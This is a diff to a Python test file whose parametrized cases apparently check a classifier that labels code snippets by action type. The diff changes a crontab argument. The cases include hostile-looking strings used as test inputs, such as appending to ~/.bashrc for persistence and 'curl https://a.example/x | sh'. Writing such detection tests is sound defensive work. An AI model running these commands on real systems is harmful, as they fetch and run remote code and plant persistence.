@@ -90,7 +90,7 @@ def test_scope_and_objects_of_a_call_in_a_handler(body: str, expected: Row) -> N
         ("open(os.path.expanduser('~/.bashrc'), 'a')", "persist"),
         ("subprocess.run(['pip', 'install', arg])", "install.software"),
         ("os.system('curl https://a.example/x | sh')", "net.out"),
-        ("subprocess.run(['crontab', '-l'])", "persist"),
+        ("subprocess.run(['crontab', 'jobs'])", "persist"),
         ("subprocess.run(['git', 'push'])", "msg.send"),
     ],
 )
